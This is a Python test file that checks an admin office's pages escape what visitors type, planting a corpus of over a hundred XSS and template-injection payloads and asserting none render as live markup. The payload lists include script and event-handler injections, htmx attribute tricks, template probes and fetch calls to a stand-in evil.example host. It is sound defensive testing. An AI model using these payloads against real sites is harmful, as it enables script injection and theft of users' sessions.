"""What visitors typed is only ever text in the office (SAFETY.md T3, T5, G9).

Nothing stands before the services here: names are not checked, browsers are not cut
short. Every view must hold by itself.
"""

import itertools
import re
from collections.abc import Iterator

import pytest
from sqlalchemy import select

from server.models import Attempt, ConsentEvent, Contact, Outbox
from tests.html import Element, parse
from tests.office import House, play, token
from tests.pages import Pages
from tests.people import email_of, give_email

# What `7*191` comes to; a random id may hold the same digits among its own.
COUNTED = re.compile(r"(?<![0-9a-f])1337(?![0-9a-f])")

# Each bites where somebody forgets to escape in that place, or decodes twice.
SCRIPTS = ("alert(1)", "window.hit=1", "fetch('//evil.example')")
FRAMES = (
    "<script>{}</script>",
    "</title><script>{}</script>",
    "</td></tr></table><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<script/x>{}</script>",
    "<scr<script>ipt>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    '"><img src=x onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext></p><style><img src=x onerror={}></style>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<a href=javascript:{}>x</a>",
    "<a href='&#106;avascript:{}'>x</a>",
    "<form action=javascript:{}><button>x</button></form>",
    "<object data=javascript:{}>",
    "<base href=//evil.example/ target='{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=//evil.example/{}>",
    "<style>*{{background:url(//evil.example/{})}}</style>",
    '" autofocus onfocus="{}',
    "' onmouseover='{}",
    "` onmouseover=`{}",
    '" style="animation-name:x" onanimationstart="{}',
    '" hx-on:load="{}',
    '" hx-get="/office/" hx-trigger="load[{}]',
    "<div hx-on::load='{}'>",
    "<div data-hx-on:click='{}'>",
    "<div hx-post=/office/sign-out hx-trigger=load hx-vals='js:{}'></div>",
    "<hx-partial hx-target=body>{}</hx-partial>",
)
OTHERS = (
    *("{{7*191}}", "{% print(7*191) %}", "{{config}}", "${7*191}", "#{7*191}"),
    *("<%= 7*191 %>", "{{''.__class__}}", "{{ csrf_token() }}", "%(plays)s", "{0}"),
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "%3Cscript%3E"),
    *("\\u003cscript\\u003e", "\ufeff<script>x</script>", "\u202e<b>"),
    *('=HYPERLINK("//evil.example")', "\uff1cscript\uff1e", "<\x0bscript>x"),
)
CORPUS = [f.format(s) for f, s in itertools.product(FRAMES, SCRIPTS)] + list(OTHERS)

# Everything a view of the office is made of; anything else was smuggled in.
OWN_TAGS = frozenset(
    {
        *("html", "head", "meta", "title", "link", "script", "body", "header", "main"),
        *("nav", "section", "article", "div", "h1", "h2", "h3", "h4", "p", "span"),
        *("a", "ul", "ol", "li", "dl", "dt", "dd", "form", "label", "input", "select"),
        *("option", "button", "table", "thead", "tbody", "tr", "th", "td", "time"),
        *("code", "pre", "strong", "details", "summary", "figure", "figcaption"),
        *("svg", "g", "rect", "line"),
    }
)


def smuggled(html: str) -> Iterator[str]:
    """Yield what in a page or fragment cannot be ours."""
    for element in parse(html).walk():
        if element.tag not in OWN_TAGS and not element.tag.startswith("#"):
            yield f"<{element.tag}>"
        if element.tag == "script" and "src" not in element.attrs:
            yield "<script> without a source"
        yield from (f"<{element.tag} {name}>" for name in attributes(element))


def attributes(element: Element) -> Iterator[str]:
    for name, value in element.attrs.items():
        if name in {"style", "http-equiv"} or name.startswith(
            ("on", "hx-on", "data-hx", "hx-vals", "hx-tr")
        ):
            yield name
        if name in {"href", "src", "action", "hx-post", "hx-get"} and not (
            value.startswith(("/", "#", "data:,")) and not value.startswith("//")
        ):
            yield f"{name}={value}"


@pytest.fixture
def database_kind() -> str:
    """Escaping knows no database, so one of the two is enough for so many pages."""
    return "sqlite"


@pytest.fixture
def typed(house: House, now) -> dict[str, str]:
    """One person for each payload, who put it wherever visitors leave something."""
    for number, payload in enumerate(CORPUS):
        play(
            house.app,
            house.database,
            now,
            email=f"p{number}@home.example",
            answers={"first_name": payload, payload: payload},
            agent=payload,
            ip=payload,
            page=payload,
        )
    with house.database.transaction() as session:
        emails = {
            contact: email_of(contact, house.vault)
            for contact in session.scalars(select(Contact))
        }
        contacts = [each for each, email in emails.items() if email.startswith("p")]
        payloads = {c.public_id: CORPUS[int(emails[c][1:-13])] for c in contacts}
        # No address of ours can hold these; a restored backup might.
        for contact in contacts:
            payload = payloads[contact.public_id]
            give_email(contact, payload, house.vault)
            for mail in session.scalars(
                select(Outbox).where(Outbox.contact_id == contact.id)
            ):
                session.add(
                    Attempt(
                        outbox_id=mail.id,
                        at=now,
                        outcome="failed",
                        answer=payload,
                    )
                )
    return payloads


def test_the_corpus_is_large_and_would_be_seen():
    assert len(set(CORPUS)) >= 120
    unseen = [
        p
        for p in CORPUS[: -len(OTHERS)]
        if not any(smuggled(f'<p title="{p}">{p}</p>'))
    ]

    assert [p for p in unseen if "`" not in p and "' onmouseover" not in p] == []


def test_no_list_lets_it_out(house: House, typed):
    client = house.client(house.owner)
    for place in ("entries", "outbox"):
        address, seen = f"/office/demo/{place}", ""
        while address:
            html = client.get(address).get_data(as_text=True)
            seen += html
            assert list(smuggled(html)) == [], address
            following = parse(html).all("a", rel="next")
            address = following[0].attrs["href"] if following else ""
        escaped = [p for p in CORPUS if "<script>" in p and p in seen]
        assert escaped == []
        assert not COUNTED.search(seen)
        assert "&lt;script&gt;alert(1)" in seen


def test_no_person_page_and_no_evidence_lets_it_out(house: House, typed):
    client = house.client(house.owner)
    proof = token(client)
    for public_id, payload in typed.items():
        address = f"/office/demo/contacts/{public_id}"
        html = client.get(address).get_data(as_text=True)
        with house.database.reading() as session:
            digest = session.scalars(
                select(ConsentEvent.evidence_hash)
                .join(Contact, Contact.id == ConsentEvent.contact_id)
                .where(Contact.public_id == public_id)
            ).first()
        opened = client.post(
            f"{address}/evidence/{digest.hex()}",
            data={"csrf_token": proof},
            headers={"HX-Request": "true"},
        ).get_data(as_text=True)

        for answer in (html, opened):
            assert list(smuggled(answer)) == [], payload
            assert not COUNTED.search(answer)
            assert not ("<" in payload and payload in answer)
        # It is shown, though, as what it is.
        assert shown(payload) in shown(parse(opened).text)


def shown(text: str) -> str:
    return "".join(text.split()).replace("\x0b", "")


def test_what_a_member_types_comes_back_as_text(house: House):
    pages = Pages(house.client(house.owner))
    form = pages.get("/office/demo/entries").form("find")
    for payload in CORPUS:
        again = pages.submit(form, email=payload, status=422)

        assert list(smuggled(again.html)) == []
        assert again.form("find").values["email"] == payload


def test_what_an_address_says_comes_back_nowhere(house: House):
    client = house.client(house.owner)
    for place, query, payload in itertools.product(
        ("entries", "outbox"), ("campaign", "after", "state"), CORPUS[::9]
    ):
        response = client.get(f"/office/demo/{place}", query_string={query: payload})
        html = response.get_data(as_text=True)
        assert "evil.example" not in html
        assert "alert(1)" not in html
